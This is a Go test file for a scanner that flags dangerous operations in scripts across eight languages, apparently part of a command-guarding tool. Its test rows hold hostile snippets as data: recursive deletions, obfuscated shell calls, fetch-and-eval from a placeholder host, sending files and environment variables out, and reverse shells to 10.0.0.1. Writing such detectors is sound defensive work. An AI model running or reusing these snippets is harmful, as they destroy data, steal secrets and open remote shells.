package lang

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/bashguard/bashguard/guard/internal/value"
)

// show renders calls for the tables: kind, ! for recursive, * for contents only, then the words;
// ${NAME} is an unknown word's name or its text, <...> a pattern.
func show(calls []Call) string {
	var out []string
	for _, c := range calls {
		s := c.Kind.String()
		if c.Recursive {
			s += "!"
		}
		if c.Contents {
			s += "*"
		}
		for _, w := range c.Args {
			s += " " + showWord(w)
		}
		out = append(out, s)
	}
	return strings.Join(out, "\n")
}

func showWord(w value.Word) string {
	if t, ok := w.Known(); ok {
		if t == "" || strings.ContainsAny(t, " \n") {
			return "'" + strings.ReplaceAll(t, "\n", `\n`) + "'"
		}
		return t
	}
	var b strings.Builder
	for _, p := range w.Pieces {
		switch p.Kind {
		case value.Text:
			b.WriteString(p.Text)
		case value.Glob:
			b.WriteString("<" + p.Text + ">")
		default:
			b.WriteString("${")
			switch {
			case p.Origin == value.File && p.Path != "":
				b.WriteString("file:" + p.Path)
			case p.Origin&value.Network != 0:
				b.WriteString("network")
			case p.Origin&value.Names != 0:
				b.WriteString("names")
			case p.Name != "":
				b.WriteString(p.Name)
			default:
				b.WriteString(p.Text)
			}
			b.WriteString("}")
			if !p.Quoted {
				b.WriteString("...")
			}
		}
	}
	return b.String()
}

// scanTest is a row: code and the calls in it, "" for silence.
type scanTest struct{ code, want string }

func runScan(t *testing.T, language string, tests []scanTest) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.code, func(t *testing.T) {
			assert.Equal(t, tt.want, show(Scan(language, value.Lit(tt.code))))
		})
	}
}

var pythonTests = []scanTest{
	{"import shutil; shutil.rmtree('/home/dev')", "delete! /home/dev"},
	{"import shutil as s; s.rmtree('/a')", "delete! /a"},
	{"from shutil import rmtree; rmtree('/a', ignore_errors=True)", "delete! /a"},
	{"from shutil import (copy, rmtree as zap)\nzap('/a')", "delete! /a"},
	{"from shutil import *\nrmtree('/a')", "delete! /a"},
	{"import os, subprocess as sp; sp.run(['rm','-rf','/a'])", "exec rm -rf /a"},
	{"import os; os.system('rm -rf ~')", "shell 'rm -rf ~'"},
	{"from os import system as x; x('id')", "shell id"},
	{"import os\nos.system('rm ' + '-rf ' + d)", "shell rm -rf ${d}"},
	{"__import__('os').system('id')", "shell id"},
	{"import importlib; importlib.import_module('os').system('id')", "shell id"},
	{"import os; getattr(os, 'sys'+'tem')('id')", "shell id"},
	{"globals()['__builtins__'].eval('1')", ""},
	{"exec('import os; os.system(\"id\")')", "shell id"},
	{"exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))", "shell id"},
	{"import os; os.system(bytes.fromhex('6964').decode())", "shell id"},
	{"import os; os.system(''.join([chr(105), chr(100)]))", "shell id"},
	{"import os; os.system(''.join(chr(c) for c in [105,100]))", "shell id"},
	{"import os; os.system(''.join(map(chr, [105,100])))", "shell id"},
	{"import os; os.system('di'[::-1])", "shell id"},
	{"import os; os.system('xxid'[2:])", "shell id"},
	{"import os; os.system('idxx'[:-2])", "shell id"},
	{"import os; os.system('xidx'[1:3])", "shell id"},
	{"import os; os.system(chr(0x69)+chr(0o144))", "shell id"},
	{"import os, codecs; os.system(codecs.decode('vq','rot13'))", "shell id"},
	{"import os; c='rm'; a='-rf'; os.system(f'{c} {a} /x')", "shell 'rm -rf /x'"},
	{"import os; os.system('%s %s' % ('rm', '/x'))", "shell 'rm /x'"},
	{"import os; os.system('{} {p}'.format('rm', p='/x'))", "shell 'rm /x'"},
	{"import os; os.remove(os.path.join(os.path.expanduser('~'), '.bashrc'))", "delete ${HOME}/.bashrc"},
	{"import os; os.unlink(os.environ['HOME'] + '/x')", "delete ${HOME}/x"},
	{"import os; os.unlink(os.environ.get('HOME') + '/x')", "delete ${HOME}/x"},
	{"from pathlib import Path; (Path.home() / 'x').unlink()", "delete ${HOME}/x"},
	{"from pathlib import Path\nPath('/etc/passwd').write_text('x')", "write /etc/passwd"},
	{"from pathlib import Path\nfor f in Path('.').glob('*.pyc'):\n    f.unlink()", "delete ./<*.pyc>"},
	{"from pathlib import Path\nfor f in Path('/a').rglob('*'): f.unlink()", "delete /a/<**/*>"},
	{"import glob, os\nfor f in glob.glob('/home/dev/*'): os.remove(f)", "delete /home/dev/<*>"},
	{"import glob, os\n[os.remove(f) for f in glob.glob('*.tmp')]", "delete <*.tmp>"},
	{"import os\nfor f in os.listdir('/home/dev'):\n  os.remove(os.path.join('/home/dev', f))", "delete /home/dev/<*>"},
	{"import os\nfor r, ds, fs in os.walk('/home/dev'):\n  for f in fs:\n    os.remove(os.path.join(r, f))", "delete /home/dev${names}/${names}"},
	{"import os\nfor f in ['/a', '/b']:\n  os.remove(f)", "delete /a\ndelete /b"},
	{"import os\nfor f in files:\n  os.remove(f)", "delete ${files}"},
	{"import shutil\nd = '/a' if x else '/b'\nshutil.rmtree(d)", "delete! /a\ndelete! /b"},
	{"open('/etc/hosts','w').write('x')", "write /etc/hosts"},
	{"open('/etc/hosts', mode='a').write('x')", "append /etc/hosts"},
	{"with open('/a') as f, open('/b', 'w') as g:\n  g.write(f.read())", "read /a\nwrite /b"},
	{"print(open('/home/dev/.ssh/id_rsa').read())", "read /home/dev/.ssh/id_rsa"},
	{"import json; json.dump({}, open('x.json','w'))", "write x.json"},
	{"import shutil; shutil.copy('/a','/b'); shutil.move('/c','/d')", "read /a\nwrite /b\nmove /c /d"},
	{"import os; os.rename('/a','/b'); os.chmod('/c', 0o777); os.truncate('/d', 0)", "move /a /b\nattr /c\nwrite /d"},
	{"import requests; requests.post('http://x', data=open('/k').read())", "read /k\nsend http://x ${file:/k}"},
	{"import requests; requests.post('http://x', files={'f': open('/k','rb')})", "read /k\nsend http://x ${file:/k}"},
	{"import requests; requests.post('http://x', json={'a': 1})", "send http://x 1"},
	{"import requests; exec(requests.get('http://x').text)", "fetch http://x\neval ${network}"},
	{"import urllib.request as u; exec(u.urlopen('http://x').read().decode())", "fetch http://x\neval ${network}"},
	{"import os, requests; os.system(requests.get('http://x').text)", "fetch http://x\nshell ${network}"},
	{"import urllib.request, os; urllib.request.urlopen('http://x', data=str(os.environ).encode())", "send http://x ${os.environ}"},
	{"import urllib.request; urllib.request.urlopen(urllib.request.Request('http://x', data=open('/k','rb').read()))", "read /k\nsend http://x ${file:/k}"},
	{"import requests, os; requests.post('http://x', json=dict(os.environ))", "readenv\nsend http://x ${environ}"},
	{"import os; print(os.environ)", "readenv"},
	{"import os; print(os.environ['PATH'])", ""},
	{"import subprocess; subprocess.run('rm -rf /x', shell=True)", "shell 'rm -rf /x'"},
	{"import subprocess; subprocess.check_output(['git', 'status'])", "exec git status"},
	{"import subprocess; subprocess.run(cmd)", "exec ${cmd}..."},
	{"import subprocess; subprocess.run(['rm', *args])", "exec rm ${args}"},
	{"import subprocess; subprocess.run('rm -rf /x'.split())", "exec rm -rf /x"},
	{"import subprocess, shlex; subprocess.run(shlex.split('rm -rf /x'))", "shell 'rm -rf /x'"},
	{"import subprocess; subprocess.run(['bash','-c','rm -rf /x'])", "exec bash -c 'rm -rf /x'"},
	{"import subprocess; subprocess.run(['sh'], input='id', text=True)", "exec sh\nshell id"},
	{"import os; os.execvp('rm', ['rm','-rf','/x'])", "exec rm -rf /x"},
	{"import os; os.execl('/bin/rm', 'rm', '-rf', '/x')", "exec /bin/rm -rf /x"},
	{"import pty; pty.spawn('/bin/bash')", "exec /bin/bash"},
	{"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "socket 10.0.0.1 4242\nexec /bin/sh -i"},
	{"import os; os.kill(-1, 9)", "killall"},
	{"import os; os.kill(1234, 9)", ""},
	{"import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')", "query 'DROP TABLE t'"},
	{"import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)", "delete! /tmp/${mktemp}"},
	{"import os, shutil\nd = os.getcwd()\nshutil.rmtree(d + '/build')", "delete! ./build"},
	{"import shutil, sys; shutil.rmtree(sys.argv[1])", "delete! ${sys.argv}"},
	{"import os;\nos.remove(\n  'a'\n  'b'\n)", "delete ab"},
	{"import os\np: str = '/x'\nos.remove(p)", "delete /x"},
	{"import os\np = '/x'\np += '/y'\nos.remove(p)", "delete /x/y"},
	{"import os\ndef f(path):\n    os.remove(path)\n", "delete ${path}"},
	{"import sh; sh.rm('-rf', '/x')", "exec rm -rf /x"},
	{"from pathlib import Path; import os\nos.remove(r'/a\\b')", `delete /a\b`},
	{"import os\nos.remove('''/a''')", "delete /a"},
	{"(lambda: __import__('os').system('id'))()", "shell id"},
	{"import os\nif True:\n    os.system('id')\nelse:\n    os.system('pwd')", "shell id\nshell pwd"},
	{"import os as o\nx = o\nx.system('id')", "shell id"},
	{"import os\nf = os.system\nf('id')", "shell id"},

	// Words, not code.
	{"s = 'mkfs /dev/sda'\nprint(s)", ""},
	{"# os.system('rm -rf /')\nprint(1)", ""},
	{"print(\"os.system('rm -rf /')\")", ""},
	{"'''\nimport os\nos.system('x')\n'''\nprint(1)", ""},
	{"import json,sys; print(json.load(sys.stdin)['a'])", ""},
	{"import os; print(os.path.exists('/etc/passwd'))", ""},
	{"import re; print(re.sub('a','b', 'abc'))", ""},
	{"xs = [1]; xs.remove(1); d = {}; d.pop('x')", ""},
	{"import os\nos.makedirs('build', exist_ok=True)", ""},
	{"print('open' in x)", ""},
	{"s = 'a'.replace('a', 'b')\nprint(s.join(['x']))", ""},
	{"import sys; sys.stdout.write('x')", ""},
	{"import os; print(os.cpu_count(), os.getpid())", ""},
	{"import subprocess", ""},
	{"import os\np = '/x'\ndef f(p, q=1):\n    os.remove(p)\n", "delete ${p}"},
	{"from .compat import shutil\nshutil.rmtree('/a')", "delete! /a"},
	{"from test.support import os_helper\nos_helper.rmtree('/a')", "delete! /a"},
	{"import sys\nprint(open(0).read())", ""},
}

var javascriptTests = []scanTest{
	{"require('fs').rmSync('/home/dev',{recursive:true})", "delete! /home/dev"},
	{"const fs = require('fs'); fs.unlinkSync('/a')", "delete /a"},
	{"fs.rmSync('/a', {recursive: true, force: true})", "delete! /a"},
	{"const {rmSync: r} = require('node:fs'); r('/a', {recursive: true})", "delete! /a"},
	{"import {rmSync} from 'node:fs'; rmSync('/a')", "delete /a"},
	{"import * as fs from 'fs'; fs.promises.rm('/a', {recursive:true})", "delete! /a"},
	{"import fs from 'fs/promises'\nawait fs.rm('/a')", "delete /a"},
	{"const fs = require(\"fs/promises\"); (async () => { await fs.unlink('/a') })()", "delete /a"},
	{"require('child_process').spawnSync('rm',['-rf','/home/dev'])", "exec rm -rf /home/dev"},
	{"require('child_process').execSync('rm -rf /x')", "shell 'rm -rf /x'"},
	{"const {execSync: e} = require('child_process'); e('id')", "shell id"},
	{"require('child_process')['exec'+'Sync']('id')", "shell id"},
	{"require('child_process').exec(`rm -rf ${dir}/x`)", "shell rm -rf ${dir}/x"},
	{"const d='/x'; require('child_process').exec(`rm -rf ${d}/y`, (e, out) => console.log(out))", "shell 'rm -rf /x/y'"},
	{"child_process.spawn('rm', ['-rf', '/x'], {shell: true})", "shell 'rm -rf /x'"},
	{"child_process.execFile('git', ['status'], cb)", "exec git status"},
	{"require('fs').rmSync(require('os').homedir(), {recursive: true})", "delete! ${HOME}"},
	{"require('fs').rmSync(process.env.HOME + '/x')", "delete ${HOME}/x"},
	{"require('fs').rmSync(require('path').join(process.env['HOME'], 'x'))", "delete ${HOME}/x"},
	{"require('fs').readdirSync('/d').forEach(f => fs.unlinkSync('/d/' + f))", "delete /d/<*>"},
	{"for (const f of fs.readdirSync('/d')) fs.unlinkSync(path.join('/d', f))", "delete /d/<*>"},
	{"['/a','/b'].forEach(function (f) { require('fs').unlinkSync(f) })", "delete /a\ndelete /b"},
	{"eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=','base64').toString())", "shell id"},
	{"require('child_process').execSync(String.fromCharCode(105,100))", "shell id"},
	{"require('child_process').execSync(atob('aWQ='))", "shell id"},
	{"require('child_process').execSync(['r','m'].join(''))", "shell rm"},
	{"new Function('require', \"require('child_process').exec('id')\")(require)", "shell id"},
	{"fetch('http://x').then(r => r.text()).then(eval)", "fetch http://x\neval ${network}"},
	{"fetch('http://x').then(r => r.text()).then(t => eval(t))", "fetch http://x\neval ${network}"},
	{"eval(await (await fetch('http://x')).text())", "fetch http://x\neval ${network}"},
	{"fetch('http://x', {method:'POST', body: fs.readFileSync('/k')})", "read /k\nsend http://x ${file:/k}"},
	{"fetch('http://x', {method:'POST', body: JSON.stringify(process.env)})", "readenv\nsend http://x ${environ}"},
	{"axios.post('http://x', {k: fs.readFileSync('/k','utf8')})", "read /k\nsend http://x ${file:/k}"},
	{"console.log(process.env)", "readenv"},
	{"console.log(process.env.PATH)", ""},
	{"fs.writeFileSync('/a','x'); fs.appendFileSync('/b','y'); fs.copyFileSync('/c','/d'); fs.renameSync('/e','/f')", "write /a\nappend /b\nread /c\nwrite /d\nmove /e /f"},
	{"await Deno.remove('/a', {recursive: true})", "delete! /a"},
	{"new Deno.Command('rm', {args: ['-rf', '/x']}).output()", "exec rm -rf /x"},
	{"await $`rm -rf /x`", "shell 'rm -rf /x'"},
	{"await Bun.$`rm -rf ${d}`", "shell rm -rf ${d}"},
	{"require('rimraf').sync('/a')", "delete! /a"},
	{"require('fs-extra').removeSync('/a'); require('fs-extra').emptyDirSync('/b')", "delete! /a\ndelete!* /b"},
	{"require('net').connect(4444, '10.0.0.1')", "socket 10.0.0.1 4444"},
	{"process.kill(-1)", "killall"},
	{"process.mainModule.require('child_process').exec('id')", "shell id"},
	{"globalThis.process.mainModule.require('child_process').exec('id')", "shell id"},
	{"import('fs').then(m => m.rmSync('/a'))", "delete /a"},
	{"require('shelljs').rm('-rf', '/x/*')", "exec rm -rf /x/<*>"},
	{"if (x) { fs.unlinkSync('/a') } else { fs.unlinkSync('/b') }", "delete /a\ndelete /b"},
	{"const f = x ? '/a' : '/b'; fs.unlinkSync(f)", "delete /a\ndelete /b"},
	{"var app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript('id')", "shell id"},
	{"''.constructor.constructor('return process.mainModule.require(\"child_process\").execSync(\"id\")')()", "shell id"},

	{"console.log('rm -rf /')", ""},
	{"// fs.rmSync('/')\nconsole.log(require('./package.json').version)", ""},
	{"const s = \"require('fs').rmSync('/')\"; console.log(s)", ""},
	{"/exec('x')/.test(s)", ""},
	{"/a/.exec('rm')", ""},
	{"const m = re.exec(text); m.delete('x')", ""},
	{"console.log(JSON.stringify(JSON.parse(require('fs').readFileSync(0))))", ""},
	{"module.exports = {a: 1}", ""},
	{"process.stdout.write('x')", ""},
	{"new Map().delete('x'); list.remove()", ""},
}

var perlTests = []scanTest{
	{`system("rm -rf /")`, "shell 'rm -rf /'"},
	{`system "rm -rf /x";`, "shell 'rm -rf /x'"},
	{`system("rm", "-rf", "/x")`, "exec rm -rf /x"},
	{`system('rm', qw(-rf /x));`, "exec rm -rf /x"},
	{`exec qq{rm -rf /x}`, "shell 'rm -rf /x'"},
	{"print `id`", "shell id"},
	{"print qx(id)", "shell id"},
	{`my $d = "/x"; system("rm -rf $d/y")`, "shell 'rm -rf /x/y'"},
	{`unlink "/a", "/b"`, "delete /a\ndelete /b"},
	{`unlink glob("/home/dev/*")`, "delete /home/dev/<*>"},
	{`unlink </home/dev/*>`, "delete /home/dev/<*>"},
	{`unlink $_ for glob("*.bak")`, "delete <*.bak>"},
	{`unlink for </x/*>`, "delete /x/<*>"},
	{`foreach my $f (glob "/x/*") { unlink $f or die }`, "delete /x/<*>"},
	{`use File::Path qw(rmtree); rmtree("/x")`, "delete! /x"},
	{`use File::Path; File::Path::remove_tree("/x", {keep_root => 1})`, "delete!* /x"},
	{`open(my $fh, '>', '/etc/passwd') or die; print $fh "x"`, "write /etc/passwd"},
	{`open F, ">>/etc/passwd"`, "append /etc/passwd"},
	{`open(F, "</a"); print <F>`, "read /a"},
	{`open(F, "rm -rf /x |")`, "shell 'rm -rf /x '"},
	{`open(F, "|-", "id")`, "shell id"},
	{`open(my $fh, "-|", "rm", "/x")`, "exec rm /x"},
	{`rename "/a", "/b"; chmod 0777, "/c"; rmdir "/d"`, "move /a /b\nattr /c\ndelete /d"},
	{`unlink "$ENV{HOME}/.bashrc"`, "delete ${HOME}/.bashrc"},
	{`eval "system('id')"`, "shell id"},
	{`use MIME::Base64; system(decode_base64("aWQ="))`, "shell id"},
	{`system(pack("H*", "6964"))`, "shell id"},
	{`system(join("", map { chr } (105,100)))`, "shell id"},
	{`system(chr(105).chr(100))`, "shell id"},
	{`system(scalar reverse "di")`, "shell id"},
	{`use LWP::Simple; eval get("http://x")`, "fetch http://x\neval ${network}"},
	{`kill 9, -1`, "killall"},
	{`use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");`, "shell '/bin/sh -i'"},
	{`my $f = $ARGV[0]; unlink $f`, "delete ${$ARGV}"},
	{`system <<EOT;` + "\nrm -rf /x\nEOT\n", `shell 'rm -rf /x\n'`},
	{`s/system/x/; print "system('id')"`, ""},
	{`while (<>) { s/a/b/; print }`, ""},
	{`print "unlink\n" if /unlink/`, ""},
	{`my %h; delete $h{x}; print join(",", sort keys %h)`, ""},
	{`# system("id")`, ""},
	{`$x{open} = 1; print $x{system}`, ""},
	{`print qq(system "id")`, ""},
}

var rubyTests = []scanTest{
	{`system('rm', '-rf', '/home/dev')`, "exec rm -rf /home/dev"},
	{`system "rm -rf /x"`, "shell 'rm -rf /x'"},
	{"puts `id`", "shell id"},
	{`puts %x{id}`, "shell id"},
	{`exec "id"`, "shell id"},
	{`require 'fileutils'; FileUtils.rm_rf('/x')`, "delete! /x"},
	{`FileUtils.rm_rf "/x"`, "delete! /x"},
	{`FileUtils.rm_rf Dir.glob("/x/*")`, "delete! /x/<*>"},
	{`FileUtils.rm_rf(["/a", "/b"])`, "delete! /a\ndelete! /b"},
	{`File.delete("/a")`, "delete /a"},
	{`File.delete '/a', '/b'`, "delete /a\ndelete /b"},
	{`Dir.glob("/x/*").each { |f| File.delete(f) }`, "delete /x/<*>"},
	{"Dir['/x/*'].each do |f|\n  File.unlink f\nend", "delete /x/<*>"},
	{`%w[/a /b].each { |f| File.delete f }`, "delete /a\ndelete /b"},
	{`File.write("/a", "x")`, "write /a"},
	{`File.open("/a", "w") { |f| f.write "x" }`, "write /a"},
	{`File.open("/a", "a") do |f| f.puts "x" end`, "append /a"},
	{`puts File.read("/a")`, "read /a"},
	{`IO.popen("id").read`, "shell id"},
	{`IO.popen(["rm", "/x"])`, "exec rm /x"},
	{`require 'open3'; Open3.capture3("rm", "-rf", "/x")`, "exec rm -rf /x"},
	{`FileUtils.rm_rf(File.join(Dir.home, "x"))`, "delete! ${HOME}/x"},
	{`FileUtils.rm_rf(File.expand_path("~/x"))`, "delete! ${HOME}/x"},
	{`FileUtils.rm_rf("#{ENV['HOME']}/x")`, "delete! ${HOME}/x"},
	{`d = "/x"; system("rm -rf #{d}")`, "shell 'rm -rf /x'"},
	{`Kernel.send(:system, "id")`, "shell id"},
	{`eval "system('id')"`, "shell id"},
	{`require 'base64'; system(Base64.decode64("aWQ="))`, "shell id"},
	{`system("aWQ=".unpack1("m"))`, "shell id"},
	{`system([105,100].pack("C*"))`, "shell id"},
	{`system("di".reverse)`, "shell id"},
	{`require 'open-uri'; eval URI.open("http://x").read`, "fetch http://x\neval ${network}"},
	{`require 'net/http'; Net::HTTP.post(URI("http://x"), File.read("/k"))`, "read /k\nsend http://x ${file:/k}"},
	{`require 'pathname'; Pathname.new("/x").rmtree`, "delete! /x"},
	{`Process.kill(9, -1)`, "killall"},
	{`system({"A"=>"b"}, "rm", "/x")`, "exec rm /x"},
	{"system <<~EOS\n  rm -rf /x\nEOS\n", `shell 'rm -rf /x\n'`},
	{`File.rename "/a", "/b"; File.chmod(0777, "/c")`, "move /a /b\nattr /c"},
	{`puts ENV`, ""},
	{`p ENV`, "readenv"},
	{`puts "system('id')"`, ""},
	{`# system("id")`, ""},
	{`puts [1,2].map { |x| x * 2 }.join(",")`, ""},
	{`h = {}; h.delete("/x"); a.delete "x"`, ""},
	{`require 'json'; puts JSON.pretty_generate(JSON.parse(STDIN.read))`, ""},
}

var phpTests = []scanTest{
	{`exec("rm -rf /home/dev");`, "shell 'rm -rf /home/dev'"},
	{`system('rm -rf ' . $d);`, "shell rm -rf ${$d}"},
	{`$d = '/x'; passthru("rm -rf $d/y");`, "shell 'rm -rf /x/y'"},
	{`$d = ['/x']; shell_exec("rm {$d[0]}");`, "shell 'rm /x'"},
	{"echo `id`;", "shell id"},
	{`unlink('/a'); rmdir("/b");`, "delete /a\ndelete /b"},
	{`array_map('unlink', glob('/x/*'));`, "delete /x/<*>"},
	{`foreach (glob('/x/*') as $f) { unlink($f); }`, "delete /x/<*>"},
	{`foreach (['/a', '/b'] as $k => $f) unlink($f);`, "delete /a\ndelete /b"},
	{`file_put_contents('/a', 'x', FILE_APPEND);`, "append /a"},
	{`file_put_contents('/a', 'x');`, "write /a"},
	{`fopen('/a', 'w');`, "write /a"},
	{`echo file_get_contents('/a');`, "read /a"},
	{`eval(file_get_contents('http://x'));`, "fetch http://x\neval ${network}"},
	{`eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));`, "shell id"},
	{`call_user_func('system', 'id');`, "shell id"},
	{`unlink(getenv('HOME') . '/x');`, "delete ${HOME}/x"},
	{`unlink($_SERVER['HOME'] . '/x');`, "delete ${HOME}/x"},
	{`include 'http://x/a.php';`, "fetch http://x/a.php\neval ${network}"},
	{`rename('/a', '/b'); chmod('/c', 0777);`, "move /a /b\nattr /c"},
	{`$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");`, "socket 10.0.0.1 4444\nshell '/bin/sh -i <&3 >&3 2>&3'"},
	{"<html><?php system('id'); ?> unlink('/a')", "shell id"},
	{`echo "system('id')";`, ""},
	{`// system('id')` + "\necho 1;", ""},
	{`echo json_encode(['a' => 1]);`, ""},
	{`$pdo->query("DROP TABLE t");`, "query 'DROP TABLE t'"},
}

var awkTests = []scanTest{
	{`BEGIN{system("rm -rf /home/dev")}`, "shell 'rm -rf /home/dev'"},
	{`BEGIN{print "x" | "rm -rf /home/dev"}`, "shell 'rm -rf /home/dev'"},
	{`{ cmd = "rm " $1; system(cmd) }`, "shell rm ${$1}"},
	{`BEGIN { "id" | getline x; print x }`, "shell id"},
	{`BEGIN { while (("ls" | getline f) > 0) print f }`, "shell ls"},
	{`{ print > "/etc/hosts" }`, "write /etc/hosts"},
	{`{ print $1, $2 >> "/a" ".txt" }`, "append /a.txt"},
	{`{ print "rm " $1 | "sh" }`, "shell sh\nshell rm ${$1}"},
	{`{ print $1 > "/dev/stderr" }`, ""},
	{`BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; print "x" |& s }`, "socket 10.0.0.1 4444"},
	{`BEGIN { while ((getline line < "/etc/passwd") > 0) print line }`, "read /etc/passwd"},
	{`BEGIN{system("r" "m" " -rf /x")}`, "shell 'rm -rf /x'"},
	{`BEGIN{system(sprintf("%c%c", 105, 100))}`, "shell id"},
	{`$3 > $4 { print }`, ""},
	{`{ if ($1 > 10) print $2 }`, ""},
	{`/system/ { print "system(\"id\")" }`, ""},
	{`a || b { print }`, ""},
	{`{ sum += $1 } END { print sum }`, ""},
}

var luaTests = []scanTest{
	{`os.execute("rm -rf /x")`, "shell 'rm -rf /x'"},
	{`os.execute "id"`, "shell id"},
	{`local d = "/x"; os.execute("rm -rf " .. d)`, "shell 'rm -rf /x'"},
	{`io.popen("id"):read("*a")`, "shell id"},
	{`os.remove("/a"); os.rename("/b", "/c")`, "delete /a\nmove /b /c"},
	{`local f = io.open("/a", "w")`, "write /a"},
	{`os.execute([[rm -rf /x]])`, "shell 'rm -rf /x'"},
	{`load("os.execute('id')")()`, "shell id"},
	{`os.remove(os.getenv("HOME") .. "/x")`, "delete ${HOME}/x"},
	{`os.execute(string.char(105, 100))`, "shell id"},
	{`_G["os"]["execute"]("id")`, "shell id"},
	{`os[ "exe" .. "cute" ]("id")`, "shell id"},
	{`-- os.execute("id")` + "\nprint(1)", ""},
	{`print("os.execute('id')")`, ""},
	{`print(os.time())`, ""},
}

var appleScriptTests = []scanTest{
	{`do shell script "rm -rf /Users/dev"`, "shell 'rm -rf /Users/dev'"},
	{`do shell script "rm -rf " & "/x" with administrator privileges`, "shell 'rm -rf /x'"},
	{`set c to "id"` + "\ndo shell script c", "shell id"},
	{`set x to do shell script "id"`, "shell id"},
	{`tell application "Terminal" to do script "id"`, "shell id"},
	{`tell application "Finder" to delete POSIX file "/x"`, "delete! /x"},
	{`tell application "Finder" to empty trash`, "delete!* ${HOME}/.Trash"},
	{`display notification "do shell script" with title "x"`, ""},
	{`-- do shell script "id"`, ""},
}

func TestScanPython(t *testing.T)      { runScan(t, "python", pythonTests) }
func TestScanJavaScript(t *testing.T)  { runScan(t, "javascript", javascriptTests) }
func TestScanPerl(t *testing.T)        { runScan(t, "perl", perlTests) }
func TestScanRuby(t *testing.T)        { runScan(t, "ruby", rubyTests) }
func TestScanPHP(t *testing.T)         { runScan(t, "php", phpTests) }
func TestScanAwk(t *testing.T)         { runScan(t, "awk", awkTests) }
func TestScanLua(t *testing.T)         { runScan(t, "lua", luaTests) }
func TestScanAppleScript(t *testing.T) { runScan(t, "applescript", appleScriptTests) }
